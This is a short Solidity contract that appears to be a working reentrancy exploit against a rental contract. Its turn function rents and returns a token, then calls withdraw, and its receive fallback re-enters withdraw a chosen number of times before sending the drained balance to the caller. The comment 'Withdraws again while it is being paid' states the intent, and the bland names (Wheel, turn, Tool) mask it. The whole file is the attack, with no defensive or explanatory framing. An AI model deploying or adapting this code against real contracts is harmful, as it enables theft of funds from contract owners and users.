// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface Board {
    function rent(uint256 id, uint256 time) external payable;
    function giveBack(uint256 id) external;
    function withdraw(address payable to) external;
}

interface Tool {
    function approve(address to, uint256 id) external;
}

/// Withdraws again while it is being paid.
contract Wheel {
    Board private immutable board;
    Tool private immutable tool;
    uint256 private left;

    constructor(Board where, Tool what) {
        board = where;
        tool = what;
    }

    function turn(uint256 id, uint256 times) external payable {
        board.rent{value: msg.value}(id, 1);
        tool.approve(address(board), id);
        board.giveBack(id);
        left = times;
        board.withdraw(payable(address(this)));
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {
        if (left == 0) return;
        left -= 1;
        board.withdraw(payable(address(this)));
    }
}
